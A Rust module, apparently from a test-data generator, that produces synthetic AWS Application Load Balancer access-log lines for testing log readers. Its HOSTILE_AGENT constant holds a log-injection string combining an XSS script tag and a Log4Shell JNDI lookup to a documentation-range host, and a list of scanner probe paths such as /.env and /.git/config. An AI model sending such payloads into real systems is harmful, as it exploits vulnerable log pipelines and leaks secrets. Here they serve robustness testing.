//! One line of an Application Load Balancer's access log as AWS writes it today: 34 fields.
//!
//! Field order and escapes (`\x22` for a quote, `\xHH` for other bytes) follow "Access logs for your Application Load
//! Balancer" in the AWS documentation; the 34th field, the node's address, is in real logs since 2026.

use std::fmt::Write;

use jiff::Timestamp;

use super::fleet::{ACCOUNT, Balancer, Callers, REGION};
use super::rng::{Rng, floor, text_to_seed};
use super::traffic::Exchange;

/// User agents of browsers and robots, as the log escapes them.
const PUBLIC_AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "ShopApp/7.4.1 (\\x22Pixel 9\\x22; Android 16)",
    "ShopApp/7.4.0 (iOS 19.1)",
    "curl/8.16.0",
    "-",
    "caf\\xC3\\xA9-monitor/1.0",
];
/// One that tries to break its readers.
const HOSTILE_AGENT: &str =
    "\\x22 503 - - \\x22><script>alert(1)</script>\\x5C\\x22 ${jndi:ldap://198.51.100.9/a} \\xF0\\x9F\\x94\\xA5";
const PARTNER_AGENTS: &[&str] =
    &["okhttp/5.1.0", "Apache-HttpClient/5.5 (Java/21.0.4)", "python-requests/2.32.5", "acme-sync \\x22prod\\x22/3"];
const INTERNAL_AGENTS: &[&str] = &["grpc-go/1.75.0", "Go-http-client/2.0", "reqwest/0.12.23", "-"];
/// What scanners request.
const SCAN_PATHS: &[&str] =
    &["/", "/.env", "/wp-login.php", "/boaform/admin/formLogin", "/actuator/health", "/.git/config"];
const WORDS: &[&str] = &["lamp", "teapot", "desk", "caf%C3%A9", "rug", "chair", "stool", "NL", "DE", "JP"];

/// Appends the line of an exchange at a node, with its line feed. Each random number is drawn in the order of the
/// fields.
pub(super) fn write_line(text: &mut String, balancer: &Balancer, node: &str, exchange: &Exchange, rng: &mut Rng) {
    let Exchange { scheme, callers, status, action, service, route, .. } = *exchange;
    let client = draw_client(callers, rng);
    let target = target_address(exchange).unwrap_or_else(|| "-".to_owned());
    let target_status = exchange.target_status.map_or_else(|| "-".to_owned(), |status| status.to_string());
    let times = exchange.processing_ms.map(format_seconds).join(" ");
    let (received, sent) = draw_bytes(exchange, rng);
    let host = service.map_or_else(|| node.to_owned(), |service| format!("{}.example.com", service.name));
    let request = draw_request(exchange, &host, rng);
    let agent = draw_user_agent(callers, rng);
    let is_encrypted = scheme != "http";
    let tls = if is_encrypted { "TLS_AES_128_GCM_SHA256 TLSv1.3" } else { "- -" };
    let target_group = exchange.target_group.map_or_else(|| "-".to_owned(), target_group_arn);
    let created_us = exchange.time_us - exchange.elapsed_us;
    let (trace, rule) = if action == "-" {
        ("-".to_owned(), "-".to_owned())
    } else {
        let seconds = created_us.div_euclid(1_000_000);
        let trace = format!("Root=1-{seconds:08x}-{:016x}{:08x}", rng.next_u64(), rng.next_u64() & 0xFFFF_FFFF);
        (trace, service.map_or(0, |service| service.rule_priority).to_string())
    };
    let server = if is_encrypted {
        let id = text_to_seed(&balancer.name) & 0xFFFF_FFFF_FFFF;
        format!("\"{host}\" \"arn:aws:acm:{REGION}:{ACCOUNT}:certificate/7d1f0c52-93ab-4e60-8f1d-{id:012x}\"")
    } else {
        "\"-\" \"-\"".to_owned()
    };
    let redirect = match route {
        _ if action != "redirect" => "-".to_owned(),
        route => format!("https://{host}:443{}", route.map_or("/", |route| &route.path)),
    };
    let (answered, created) = (format_time(exchange.time_us), format_time(created_us));
    let (connection, connection_end) = (rng.next_u64(), rng.next_u64());
    // Writing to a string cannot fail.
    _ = writeln!(
        text,
        "{scheme} {answered} {} {client} {target} {times} {status:03} {target_status} {received} {sent} \
         \"{request}\" \"{agent}\" {tls} {target_group} \"{trace}\" {server} {rule} {created} \"{action}\" \
         \"{redirect}\" \"-\" \"{target}\" \"{target_status}\" \"-\" \"-\" \
         TID_{connection:016x}{connection_end:016x} \"-\" \"-\" \"-\" {node}",
        balancer.name,
    );
}

/// Address and port of a caller, from ranges that are kept for tests and documentation (RFC 2544, 3849, 5737).
fn draw_client(callers: Callers, rng: &mut Rng) -> String {
    let draw = rng.next_u64();
    let [first, second, third, fourth, ..] = draw.to_le_bytes();
    let address = match callers {
        Callers::Public if first < 48 => format!("2001:db8:1{second:02x}:32{third:02x}::10{fourth:02x}"),
        Callers::Public => format!("198.{}.{second}.{third}", 18 + first % 2),
        Callers::Partners => format!("192.0.2.{}", 10 + second % 6),
        Callers::Internal => format!("10.0.{}.{}", second % 16, 4 + third % 250),
    };
    format!("{address}:{}", 1_024 + (draw >> 32) % 64_000)
}

fn target_address(exchange: &Exchange) -> Option<String> {
    let (target, service) = (exchange.target_index?, exchange.service?);
    Some(format!("10.0.{}.{}:8080", 64 + service.rule_priority, 10 + target))
}

fn format_seconds(ms: Option<u64>) -> String {
    ms.map_or_else(|| "-1".to_owned(), |ms| format!("{}.{:03}", ms / 1_000, ms % 1_000))
}

fn draw_bytes(exchange: &Exchange, rng: &mut Rng) -> (u64, u64) {
    let (received, sent) =
        exchange.route.map_or((180, 300), |route| (route.median_bytes_received, route.median_bytes_sent));
    let sent = match exchange.status {
        460 => 0,
        400.. => 320,
        _ => sent,
    };
    let mut draw = |median: u32| floor(rng.log_normal(median.into(), 0.3));
    (draw(received), draw(sent))
}

fn draw_request(exchange: &Exchange, host: &str, rng: &mut Rng) -> String {
    let Exchange { scheme, route, .. } = *exchange;
    if exchange.action == "-" {
        return "- http://shop.example.com:80- -".to_owned();
    }
    let method = route.map_or("GET", |route| &route.method);
    let (protocol, port) = if scheme == "http" { ("http", 80) } else { ("https", 443) };
    let path = match route {
        Some(route) => fill_path(&route.path, rng),
        None => rng.choose(SCAN_PATHS).copied().unwrap_or("/").to_owned(),
    };
    let version = if matches!(scheme, "h2" | "grpcs") { "2.0" } else { "1.1" };
    format!("{method} {protocol}://{host}:{port}{path} HTTP/{version}")
}

/// Replaces the placeholders of a [`Route`](super::fleet::Route)'s path.
fn fill_path(path: &str, rng: &mut Rng) -> String {
    let mut parts = path.split(['{', '}']);
    let mut filled = parts.next().unwrap_or_default().to_owned();
    while let (Some(placeholder), Some(literal)) = (parts.next(), parts.next()) {
        filled += &match placeholder {
            "n" => (rng.next_below(99_000) + 1).to_string(),
            "x" => format!("{:016x}", rng.next_u64()),
            _ => rng.choose(WORDS).copied().unwrap_or("lamp").to_owned(),
        };
        filled += literal;
    }
    filled
}

fn draw_user_agent(callers: Callers, rng: &mut Rng) -> &'static str {
    let agents = match callers {
        Callers::Public => PUBLIC_AGENTS,
        Callers::Partners => PARTNER_AGENTS,
        Callers::Internal => INTERNAL_AGENTS,
    };
    let is_hostile = callers == Callers::Public && rng.draw_ppm(2_000);
    let agent = rng.choose(agents).copied().unwrap_or("-");
    if is_hostile { HOSTILE_AGENT } else { agent }
}

fn target_group_arn(name: &str) -> String {
    let id = Rng::from_seeds(&[text_to_seed(name)]).next_u64();
    format!("arn:aws:elasticloadbalancing:{REGION}:{ACCOUNT}:targetgroup/{name}/{id:016x}")
}

/// `2026-10-07T07:15:03.123456Z`
fn format_time(us: i64) -> String {
    format!("{:.6}", Timestamp::from_microsecond(us).unwrap_or_default())
}
